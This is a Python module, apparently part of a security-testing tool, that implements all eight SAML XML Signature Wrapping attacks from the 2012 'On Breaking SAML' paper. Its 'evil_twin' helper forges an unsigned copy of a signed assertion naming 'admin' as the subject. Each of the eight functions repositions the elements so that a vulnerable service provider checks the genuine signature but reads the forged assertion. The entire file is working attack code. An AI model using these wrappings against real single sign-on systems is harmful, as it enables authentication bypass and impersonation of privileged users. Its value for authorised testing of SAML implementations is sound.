"""The eight known ways to wrap a signed assertion, so that one element is checked and another is read.

As collected in "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012) and numbered by SAML Raider.
Each takes a response with a signed assertion, and the evil twin of that assertion.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from copy import deepcopy

from lxml import etree
from lxml.etree import _Element  # pyright: ignore[reportPrivateUsage]

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SIGNATURE = "{http://www.w3.org/2000/09/xmldsig#}"


def _parts(response: _Element) -> tuple[_Element, _Element]:
    assertion = response.find(f"{SAML}Assertion")
    assert assertion is not None
    signature = assertion.find(f"{SIGNATURE}Signature")
    assert signature is not None
    return assertion, signature


def evil_twin(assertion: _Element, subject: str = "admin") -> _Element:
    """The same assertion about someone else, with an id of its own and without a signature."""
    twin = deepcopy(assertion)
    twin.set("ID", "_evil")
    signature = twin.find(f"{SIGNATURE}Signature")
    if signature is not None:
        twin.remove(signature)
    name = twin.find(f"{SAML}Subject/{SAML}NameID")
    assert name is not None
    name.text = subject
    return twin


def _around_the_response(response: _Element) -> _Element:
    """1: an evil response, with the old one inside the signature."""
    evil = deepcopy(response)
    evil.set("ID", "_evil_response")
    assertion, signature = _parts(evil)
    evil.replace(assertion, evil_twin(assertion))
    evil.insert(1, signature)
    signature.append(deepcopy(response))
    return evil


def _beside_the_response(response: _Element) -> _Element:
    """2: an evil response, with the old one before a detached signature."""
    evil = deepcopy(response)
    evil.set("ID", "_evil_response")
    assertion, signature = _parts(evil)
    evil.replace(assertion, evil_twin(assertion))
    evil.insert(1, deepcopy(response))
    evil.insert(2, signature)
    return evil


def _twin_before(response: _Element) -> _Element:
    """3: the evil assertion before the old one."""
    assertion, _ = _parts(response)
    assertion.addprevious(evil_twin(assertion))
    return response


def _twin_around(response: _Element) -> _Element:
    """4: the old assertion within the evil one."""
    assertion, _ = _parts(response)
    twin = evil_twin(assertion)
    response.replace(assertion, twin)
    twin.append(assertion)
    return response


def _twin_with_the_signature(response: _Element) -> _Element:
    """5: the evil assertion has the signature, and the old one stands behind it."""
    assertion, signature = _parts(response)
    twin = evil_twin(assertion)
    response.replace(assertion, twin)
    assertion.remove(signature)
    twin.insert(1, signature)
    response.append(assertion)
    return response


def _old_within_the_signature(response: _Element) -> _Element:
    """6: the evil assertion has the signature, and the old one stands within it."""
    response = _twin_with_the_signature(response)
    twin, old = response.findall(f"{SAML}Assertion")
    signature = twin.find(f"{SIGNATURE}Signature")
    assert signature is not None
    signature.append(old)
    return response


def _twin_in_extensions(response: _Element) -> _Element:
    """7: the evil assertion within an element whose content is not looked at."""
    assertion, _ = _parts(response)
    extensions = etree.Element("{urn:oasis:names:tc:SAML:2.0:protocol}Extensions")
    extensions.append(evil_twin(assertion))
    assertion.addprevious(extensions)
    return response


def _old_in_an_object(response: _Element) -> _Element:
    """8: the old assertion within an object of the signature, which the evil one has."""
    response = _twin_with_the_signature(response)
    twin, old = response.findall(f"{SAML}Assertion")
    signature = twin.find(f"{SIGNATURE}Signature")
    assert signature is not None
    holder = etree.SubElement(signature, f"{SIGNATURE}Object")
    holder.append(old)
    return response


WRAPPINGS: Mapping[int, Callable[[_Element], _Element]] = {
    1: _around_the_response,
    2: _beside_the_response,
    3: _twin_before,
    4: _twin_around,
    5: _twin_with_the_signature,
    6: _old_within_the_signature,
    7: _twin_in_extensions,
    8: _old_in_an_object,
}
